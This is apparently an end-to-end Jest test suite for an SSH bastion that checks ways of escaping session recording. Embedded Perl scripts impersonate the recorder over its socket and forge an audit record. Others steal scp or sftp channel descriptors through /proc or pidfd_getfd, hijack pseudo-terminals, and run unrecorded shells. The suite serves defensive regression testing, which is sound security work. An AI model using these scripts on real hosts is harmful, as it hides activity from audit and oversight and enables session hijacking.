// End to end: ways past session recording that still work on this branch's base. Each test shows
// the client receiving a marker that the session's recording in S3 does not contain (or the
// recording losing what it had), with the session ending as normal (status 0): nothing on the host
// notices. Each asserts that the attack works: a fix turns its test red, and the test is then
// inverted into the fix's regression test.
import { execFile, execFileSync } from 'child_process';
import * as fs from 'fs';
import * as path from 'path';
import { promisify } from 'util';
import { BastionTestHost, Settings, testSettings, waitFor } from '../helpers/harness';
import { log, logEachTest } from './log';

const execFileAsync = promisify(execFile);
jest.setTimeout(240_000);
logEachTest();

const BUCKET = 'e2e-recordings-bypass';
const PORT = 2432;
let host: BastionTestHost;
let key = '';

async function recordings(): Promise<{ key: string; body: string }[]> {
  const code = `
import boto3, json, sys
s3 = boto3.client("s3")
out = []
for o in s3.list_objects_v2(Bucket=sys.argv[1]).get("Contents", []):
    got = s3.get_object(Bucket=sys.argv[1], Key=o["Key"])
    out.append({"key": o["Key"], "body": got["Body"].read().decode()})
print(json.dumps(out))
`;
  const { stdout } = await execFileAsync('python3', ['-c', code, BUCKET], { env: { ...process.env, ...host.moto!.awsEnv() } });
  return JSON.parse(stdout);
}

function shellQuote(s: string): string {
  return `'${s.replace(/'/g, `'\\''`)}'`;
}

function sshCommand(options: string[], command?: string): string {
  return [
    'ssh',
    ...options,
    '-i',
    key,
    '-p',
    String(PORT),
    '-o',
    'BatchMode=yes',
    '-o',
    'IdentitiesOnly=yes',
    '-o',
    'ConnectTimeout=20',
    '-o',
    'LogLevel=ERROR',
    '-o',
    'UserKnownHostsFile=/dev/null',
    '-o',
    'StrictHostKeyChecking=no',
    'alice@127.0.0.1',
    ...(command !== undefined ? [command] : []),
  ]
    .map(shellQuote)
    .join(' ');
}

/** The recording of the session that ended since `before` (keys then), its status and its text. */
async function newRecording(before: string[]): Promise<{ session: string; status: string; body: string }> {
  let found: { session: string; status: string; body: string } | undefined;
  await waitFor(
    async () => {
      const fresh = (await recordings()).filter((o) => !before.includes(o.key));
      const ends = [...host.journal().matchAll(/user=alice container=ssh-bastion-([0-9a-f]{24}) duration=\d+s status=(\d+)/g)];
      for (const o of fresh) {
        const end = ends.find((e) => o.key.endsWith(`${e[1]}-alice.cast`));
        if (end) found = { session: end[1], status: end[2], body: o.body };
      }
      return found !== undefined;
    },
    90_000,
    'a new recording in S3',
  );
  return found!;
}

/** A ControlMaster connection (no channel of its own); `body` runs with its control path. */
async function withMaster(body: (control: string) => Promise<void>): Promise<void> {
  const control = path.join(host.dir, `bypass-%C`);
  const master = await host.run([
    'bash',
    '-c',
    `${sshCommand(['-f', '-N', '-M', '-S', control, '-o', 'ControlPersist=120'])} >/dev/null 2>&1`,
  ]);
  expect(master.status).toBe(0);
  try {
    await body(control);
  } finally {
    await host.run(['bash', '-c', `${sshCommand(['-S', control, '-O', 'exit'])} >/dev/null 2>&1`]);
  }
}

beforeAll(async () => {
  host = new BastionTestHost(testSettings());
  await host.prepare();
  const keyDir = path.join(host.dir, 'client-keys');
  fs.mkdirSync(keyDir);
  key = path.join(keyDir, 'alice');
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'alice', '-f', key]);
  await host.moto!.seedUsers([{ name: 'alice', groups: ['bastion-admins'], keys: [fs.readFileSync(`${key}.pub`, 'utf8').trim()] }]);
  await execFileAsync('aws', ['s3api', 'create-bucket', '--bucket', BUCKET], { env: { ...process.env, ...host.moto!.awsEnv() } });
  const boot = await host.boot();
  if (boot.status !== 0) throw new Error(`boot failed:\n${boot.stdout}\n${boot.stderr}`);
  const spool = path.join(host.dir, 'recordings-spool');
  await host.must(['mkdir', '-p', spool]);
  await host.must(['mount', '-t', 'tmpfs', '-o', 'size=1g,mode=0700', 'tmpfs', spool]);
  await host.serveSessions(
    PORT,
    { ...testSettings(), BASTION_WORKER_BASE_IMAGE: host.baseImage, BASTION_RECORDING_BUCKET: BUCKET } as Settings,
    'recorded',
    undefined,
    { STATE_DIRECTORY: spool },
  );
}, 600_000);

afterAll(async () => {
  if (host) log(`journal:\n${host.journal().split('\n').slice(-80).join('\n')}`);
  await host?.stop();
});

describe('session recording bypasses', () => {
  test('a ~/.bashrc planted over sftp cannot pose as the recorder: sshd runs the ForceCommand with sh, and the file runs only in the recorded shell, after session-command', async () => {
    // The attack: were the accounts' login shell bash, sshd's `bash -c <ForceCommand>` would source
    // ~/.bashrc first (Debian's bash does under sshd), in the process whose parent is sshd's user
    // child, which passes the host's is_recorder check: it would send a harmless header and output,
    // then run bash -i on the channel's own terminal, which the recorder never sees. With sh as the
    // login shell the file runs only in bash -l (through ~/.profile), inside the recorder.
    const fake = [
      'use Socket;',
      'socket(my $s, AF_UNIX, SOCK_STREAM, 0) or die;',
      'connect($s, pack_sockaddr_un("/run/ssh-bastion/session/record.sock")) or die "connect: $!";',
      'my $k = "";',
      'sysread($s, $k, 1) == 1 && $k eq "k" or die "refused";',
      'sub f { my ($t, $p) = @_; syswrite($s, $t . pack("N", length $p) . $p) }',
      'f("h", join("\\t", 1, 80, 24, "xterm", ""));',
      'f("o", "alice\\@bastion:~\\$ exit\\r\\n");',
      'my $pid = fork; if (!$pid) { exec "/bin/bash", "-i" } waitpid($pid, 0);',
      'f("e", "0");',
    ].join(' ');
    const bashrc = `if [ -z "$BYPASS" ] && [ -t 0 ]; then export BYPASS=1; exec perl -e ${shellQuote(fake)}; fi\n`;
    // AUDIT_USER_LOGIN (1112) over NETLINK_AUDIT with an acknowledgement (isolation.test.ts's): had
    // session-command not run, AUDIT_WRITE would still be inheritable and sudo would give it to root.
    const auditRecord =
      'socket(my $s, 16, 3, 9) or do { print "refused socket: $!\\n"; exit }; ' +
      'my $p = "op=login acct=\\"root\\" exe=\\"/usr/sbin/sshd\\" res=success\\0"; ' +
      'send($s, pack("LSSLL", 16 + length($p), 1112, 5, 1, 0) . $p, 0, pack("SSLL", 16, 0, 0, 0)) or do { print "refused send: $!\\n"; exit }; ' +
      'defined(recv($s, my $ack, 8192, 0)) or do { print "refused recv: $!\\n"; exit }; ' +
      'my (undef, $type, undef, undef, undef, $err) = unpack("LSSLLl", $ack); ' +
      'print $err == 0 ? "audit-record-accepted\\n" : "audit-record-refused errno=" . -$err . "\\n";';
    const before = (await recordings()).map((o) => o.key);
    let client = { stdout: '', stderr: '', status: 0 };
    await withMaster(async (control) => {
      // Channel 1: sftp puts ~/.bashrc and the audit script; a file transfer is recorded as its
      // command line only, so the recording has no trace of what they hold.
      const localRc = path.join(host.dir, 'planted-bashrc');
      const localAudit = path.join(host.dir, 'planted-audit.pl');
      const batch = path.join(host.dir, 'planted-batch');
      fs.writeFileSync(localRc, bashrc);
      fs.writeFileSync(localAudit, auditRecord);
      fs.writeFileSync(batch, `put ${localRc} .bashrc\nput ${localAudit} /tmp/a.pl\n`);
      const sftp = await host.run([
        'sftp',
        '-o',
        `ControlPath=${control}`,
        '-b',
        batch,
        '-P',
        String(PORT),
        '-i',
        key,
        '-o',
        'BatchMode=yes',
        '-o',
        'IdentitiesOnly=yes',
        '-o',
        'LogLevel=ERROR',
        '-o',
        'UserKnownHostsFile=/dev/null',
        '-o',
        'StrictHostKeyChecking=no',
        'alice@127.0.0.1',
      ]);
      expect(sftp.status).toBe(0);
      // Channel 2: an interactive login; what it types runs in the unrecorded bash -i.
      client = await host.run(
        [
          'bash',
          '-c',
          `{ sleep 3; echo 'echo HIDDEN-$((6*7)); grep CapInh /proc/self/status; sudo -n perl /tmp/a.pl'; sleep 3; echo exit; sleep 2; } | ${sshCommand(['-S', control, '-tt'])}`,
        ],
        { timeoutMs: 60_000 },
      );
    });
    log(`client: ${JSON.stringify(client)}`);
    const { session, status, body } = await newRecording(before);
    log(`recording:\n${body}`);
    expect(status).toBe('0');
    // The planted file ran in the recorded login shell, where its fake recorder was refused (and
    // said so on the recorded terminal): the shell it replaced is gone, nothing ran unrecorded.
    expect(client.stdout).toContain('refused at -e line 1.');
    expect(client.stdout).not.toContain('HIDDEN-42');
    expect(client.stdout).not.toContain('audit-record-accepted');
    expect(host.journal()).toContain(`ssh-bastion-${session}: a connection to record.sock not made by a channel's recorder was refused`);
    const marks = body
      .trimEnd()
      .split('\n')
      .slice(1)
      .map((l) => JSON.parse(l))
      .map((e) => [e[1], e[2]]);
    expect(marks).toEqual([
      ['m', 'channel 1 file transfer: /usr/lib/openssh/sftp-server'],
      ['m', 'channel 1 ended, status 0'],
      ['m', 'channel 2 terminal'],
      ['o', 'refused at -e line 1.\r\n'],
      ['m', 'channel 2 ended, status 255'],
    ]);
  });

  test('ssh -L to a listener in the container: an interactive shell whose bytes are in no recording', async () => {
    const listener =
      'use IO::Socket::INET; my $l = IO::Socket::INET->new(LocalAddr => "127.0.0.1:7777", Listen => 1, ReuseAddr => 1) or die; ' +
      'my $c = $l->accept; open STDIN, "<&", $c; open STDOUT, ">&", $c; open STDERR, ">&", $c; exec "/bin/bash", "-i";';
    const before = (await recordings()).map((o) => o.key);
    let forwarded = { stdout: '', stderr: '', status: 0 };
    await withMaster(async (control) => {
      const first = await host.run([
        'bash',
        '-c',
        sshCommand(['-S', control], `setsid perl -e ${shellQuote(listener)} </dev/null >/dev/null 2>&1 & sleep 1; echo listening`),
      ]);
      expect(first.stdout).toContain('listening');
      expect(
        (await host.run(['bash', '-c', sshCommand(['-S', control, '-O', 'forward', '-L', '127.0.0.1:17777:127.0.0.1:7777'])])).status,
      ).toBe(0);
      forwarded = await host.run(
        ['bash', '-c', `{ echo 'echo FORWARDED-$((5*5)); sudo id -u; exit'; sleep 3; } | socat - TCP:127.0.0.1:17777`],
        { timeoutMs: 30_000 },
      );
    });
    log(`forwarded: ${JSON.stringify(forwarded)}`);
    const { status, body } = await newRecording(before);
    log(`recording:\n${body}`);
    expect(forwarded.stdout).toContain('FORWARDED-25');
    expect(status).toBe('0');
    expect(body).not.toContain('FORWARDED-25');
  });
  test("a 100 KB TERM (sent by the client): the header keeps 64 characters of it, and the recording's events survive the header's rewrite at the end", async () => {
    const before = (await recordings()).map((o) => o.key);
    const client = await host.run(
      [
        'bash',
        '-c',
        `export TERM=$(head -c 100000 /dev/zero | tr '\\0' a); { sleep 3; echo 'echo EARLY-$((2*3)); head -c 20000 /etc/services >/dev/null'; sleep 2; echo 'echo LATE-$((3*3)); exit'; sleep 2; } | ${sshCommand(['-tt'])}`,
      ],
      { timeoutMs: 60_000 },
    );
    log(`client: ${JSON.stringify({ ...client, stdout: client.stdout.slice(-300) })}`);
    expect(client.stdout).toContain('EARLY-6');
    const { status, body } = await newRecording(before);
    const lines = body.split('\n');
    log(
      `recording: ${body.length} bytes, ${lines.length} lines; first line ${lines[0].length} bytes; line 2: ${JSON.stringify(lines[1]?.slice(0, 200))}`,
    );
    expect(status).toBe('0');
    // The header line keeps its 1 KiB (padded) and TERM's first 64 characters; every event after
    // it is whole, with what the client saw.
    expect(client.stdout).toContain('LATE-9');
    expect(lines[0]).toHaveLength(1023);
    expect(JSON.parse(lines[0]).env.TERM).toBe('a'.repeat(64));
    const events = lines.slice(1).filter((l) => l !== '');
    expect(events.length).toBeGreaterThan(3);
    for (const line of events) expect(() => JSON.parse(line)).not.toThrow();
    expect(body).toContain('EARLY-6');
    expect(body).toContain('LATE-9');
  });
  test("a file transfer's channel taken by an earlier channel's process: scp -t runs on the channel itself, dumpable", async () => {
    // scp's server is exec'd by the recorder onto the channel's own descriptors, and exec makes it
    // dumpable again (sftp-server makes itself non-dumpable; scp does not): a process of the same
    // user takes them (/proc/<pid>/fd, or pidfd_getfd), stops it and runs a shell there. The
    // recording has a command line and a file transfer.
    const thief =
      "# Waits for the user's sftp-server, takes its channel descriptors, stops it, and runs a shell on them.\nuse strict;\nuse warnings;\nopen(my $log, '>>', '/tmp/thief.log') or die;\nselect((select($log), $| = 1)[0]);\nmy $deadline = time + 60;\nwhile (time < $deadline) {\n  opendir(my $proc, '/proc') or die;\n  for my $pid (grep { /^\\d+$/ && $_ != $$ } readdir $proc) {\n    open(my $c, '<', \"/proc/$pid/cmdline\") or next;\n    my $cmd = do { local $/; <$c> } // '';\n    next unless $cmd =~ m{^/usr/bin/scp\\0-t\\0};\n    print $log \"sftp-server $pid: fd0 \", readlink(\"/proc/$pid/fd/0\") // \"?$!\", \" fd1 \", readlink(\"/proc/$pid/fd/1\") // \"?$!\", \"\\n\";\n    my ($in, $out);\n    if (open($in, '<&=', 0) && 0) { }\n    unless (open($in, '<', \"/proc/$pid/fd/0\") && open($out, '>', \"/proc/$pid/fd/1\")) {\n      print $log \"open via /proc: $!; trying pidfd_getfd\\n\";\n      my $pidfd = syscall(434, $pid, 0);\n      print $log \"pidfd_open: $pidfd $!\\n\";\n      my $fd0 = syscall(438, $pidfd, 0, 0);\n      my $fd1 = syscall(438, $pidfd, 1, 0);\n      print $log \"pidfd_getfd: $fd0 $fd1 $!\\n\";\n      exit 1 if $fd0 < 0 || $fd1 < 0;\n      open($in, '<&=', $fd0) or die;\n      open($out, '>&=', $fd1) or die;\n    }\n    kill 'STOP', $pid;\n    print $log \"stolen, sftp-server stopped\\n\";\n    my $child = fork;\n    if (!$child) {\n      open(STDIN, '<&', $in) or die;\n      open(STDOUT, '>&', $out) or die;\n      open(STDERR, '>&', $out) or die;\n      exec '/bin/bash';\n    }\n    waitpid($child, 0);\n    print $log \"shell ended\\n\";\n    kill 'CONT', $pid;\n    kill 'TERM', $pid;\n    exit 0;\n  }\n  select(undef, undef, undef, 0.01);\n}\n";
    const before = (await recordings()).map((o) => o.key);
    let client = { stdout: '', stderr: '', status: 0 };
    let debug = { stdout: '', stderr: '', status: 0 };
    await withMaster(async (control) => {
      const started = await host.run([
        'bash',
        '-c',
        `printf '%s' ${shellQuote(Buffer.from(thief).toString('base64'))} | ${sshCommand(['-S', control], 'base64 -d >/tmp/t.pl; setsid perl /tmp/t.pl </dev/null >/dev/null 2>&1 & echo started')}`,
      ]);
      expect(started.stdout).toContain('started');
      client = await host.run(
        ['bash', '-c', `{ sleep 3; echo 'echo STOLEN-$((4*4)); id -un'; sleep 3; } | ${sshCommand(['-S', control], 'scp -t /tmp/x')}`],
        { timeoutMs: 60_000 },
      );
      debug = await host.run(['bash', '-c', sshCommand(['-S', control], 'cat /tmp/thief.log')]);
    });
    log(`client: ${JSON.stringify(client)}; thief: ${JSON.stringify(debug.stdout)}`);
    const { status, body } = await newRecording(before);
    log(`recording:\n${body}`);
    expect(client.stdout).toContain('STOLEN-16');
    expect(status).toBe('0');
    expect(body).not.toContain('STOLEN-16');
  });
  test("a plain user's non-dumpable process opens the next channel's terminal before the recorder makes it exclusive: the recorder's search cannot see it", async () => {
    const thief =
      '# Non-dumpable (the recorder, running as the same user, then cannot list its descriptors), it\n# opens every new terminal of the container as soon as it appears, before the recorder makes it\n# exclusive, and later writes a marker to each.\nuse strict;\nuse warnings;\nuse Fcntl qw(O_RDWR O_NOCTTY O_NONBLOCK);\nsyscall(157, 4, 0, 0, 0, 0) == 0 or die "prctl: $!";\nopen(my $log, \'>>\', \'/tmp/thief2.log\') or die;\nselect((select($log), $| = 1)[0]);\nmy %seen;\n{ opendir(my $d, \'/dev/pts\') or die; $seen{$_} = 1 for grep { /^\\d+$/ } readdir $d; }\nprint $log "ptys before: ", join(\' \', sort keys %seen), "\\n";\nmy @held;\nmy $deadline = time + 60;\nwhile (time < $deadline && @held < 2) {\n  opendir(my $d, \'/dev/pts\') or die;\n  for my $n (grep { /^\\d+$/ && !$seen{$_} } readdir $d) {\n    if (sysopen(my $fh, "/dev/pts/$n", O_RDWR | O_NOCTTY | O_NONBLOCK)) {\n      $seen{$n} = 1;\n      push @held, [$n, $fh];\n      print $log "opened /dev/pts/$n\\n";\n    } else {\n      print $log "open /dev/pts/$n: $!\\n";\n      $seen{$n} = 1 if $!{EBUSY};\n    }\n  }\n  select(undef, undef, undef, 0.001);\n}\nsleep 3;\nfor (@held) {\n  my ($n, $fh) = @$_;\n  my $w = syswrite($fh, "\\r\\nHELD-PTS-$n-" . (6 * 7) . "\\r\\n");\n  print $log "wrote to /dev/pts/$n: ", ($w // "error $!"), "\\n";\n}\n';
    const before = (await recordings()).map((o) => o.key);
    let client = { stdout: '', stderr: '', status: 0 };
    let debug = { stdout: '', stderr: '', status: 0 };
    await withMaster(async (control) => {
      const started = await host.run([
        'bash',
        '-c',
        `printf '%s' ${shellQuote(Buffer.from(thief).toString('base64'))} | ${sshCommand(['-S', control], 'base64 -d >/tmp/t2.pl; setsid perl /tmp/t2.pl </dev/null >/dev/null 2>&1 & sleep 1; echo started')}`,
      ]);
      expect(started.stdout).toContain('started');
      client = await host.run(['bash', '-c', `{ sleep 7; echo exit; sleep 2; } | ${sshCommand(['-S', control, '-tt'])}`], {
        timeoutMs: 60_000,
      });
      debug = await host.run(['bash', '-c', sshCommand(['-S', control], 'cat /tmp/thief2.log')]);
    });
    log(`client: ${JSON.stringify(client)}; thief: ${JSON.stringify(debug.stdout)}`);
    const { status, body } = await newRecording(before);
    log(`recording:\n${body}`);
    const held = [...client.stdout.matchAll(/HELD-PTS-(\d+)-42/g)].map((m) => m[0]);
    expect(held.length).toBeGreaterThan(0);
    // at least one of the markers the client saw (the outer terminal's) is not in the recording
    expect(held.some((marker) => !body.includes(marker))).toBe(true);
    expect(status).toBe('0');
  });
  test('sftp asked with a terminal (ssh -t -s host sftp): the recorder leaves the outer terminal openable, and an earlier process runs a shell on it', async () => {
    const thief =
      "# Waits for a terminal to appear (a file transfer asked with ssh -t: the recorder leaves it\n# as it is), opens it at leisure, stops the transfer server and runs a shell on the terminal.\nuse strict;\nuse warnings;\nuse Fcntl qw(O_RDWR O_NOCTTY);\nuse POSIX ();\nopen(my $log, '>>', '/tmp/thief3.log') or die;\nselect((select($log), $| = 1)[0]);\nmy $deadline = time + 60;\nwhile (time < $deadline) {\n  opendir(my $d, '/dev/pts') or die;\n  my ($n) = grep { /^\\d+$/ } readdir $d;\n  if (defined $n) {\n    sleep 1;\n    sysopen(my $tty, \"/dev/pts/$n\", O_RDWR | O_NOCTTY) or do { print $log \"open /dev/pts/$n: $!\\n\"; exit 1 };\n    print $log \"opened /dev/pts/$n\\n\";\n    my @stopped;\n    opendir(my $proc, '/proc') or die;\n    for my $pid (grep { /^\\d+$/ } readdir $proc) {\n      open(my $c, '<', \"/proc/$pid/cmdline\") or next;\n      my $cmd = do { local $/; <$c> } // '';\n      if ($cmd =~ m{^/usr/lib/openssh/sftp-server\\0?}) { kill 'STOP', $pid; push @stopped, $pid; print $log \"stopped $pid\\n\"; }\n    }\n    my $child = fork;\n    if (!$child) {\n      POSIX::setsid();\n      open(STDIN, '<&', $tty) or die;\n      open(STDOUT, '>&', $tty) or die;\n      open(STDERR, '>&', $tty) or die;\n      exec '/bin/bash', '-i';\n    }\n    waitpid($child, 0);\n    print $log \"shell ended\\n\";\n    kill 'CONT', @stopped;\n    kill 'TERM', @stopped;\n    exit 0;\n  }\n  select(undef, undef, undef, 0.05);\n}\n";
    const before = (await recordings()).map((o) => o.key);
    let client = { stdout: '', stderr: '', status: 0 };
    let debug = { stdout: '', stderr: '', status: 0 };
    await withMaster(async (control) => {
      const started = await host.run([
        'bash',
        '-c',
        `printf '%s' ${shellQuote(Buffer.from(thief).toString('base64'))} | ${sshCommand(['-S', control], 'base64 -d >/tmp/t3.pl; setsid perl /tmp/t3.pl </dev/null >/dev/null 2>&1 & sleep 1; echo started')}`,
      ]);
      expect(started.stdout).toContain('started');
      client = await host.run(
        [
          'bash',
          '-c',
          `{ sleep 4; echo 'echo PTYSFTP-$((7*7)); sudo id -u'; sleep 3; echo exit; sleep 2; } | ${sshCommand(['-S', control, '-tt', '-s'], 'sftp')}`,
        ],
        { timeoutMs: 60_000 },
      );
      debug = await host.run(['bash', '-c', sshCommand(['-S', control], 'cat /tmp/thief3.log')]);
    });
    log(`client: ${JSON.stringify(client)}; thief: ${JSON.stringify(debug.stdout)}`);
    const { status, body } = await newRecording(before);
    log(`recording:\n${body}`);
    expect(client.stdout).toContain('PTYSFTP-49');
    expect(body).not.toContain('PTYSFTP-49');
    expect(status).toBe('0');
  });
});
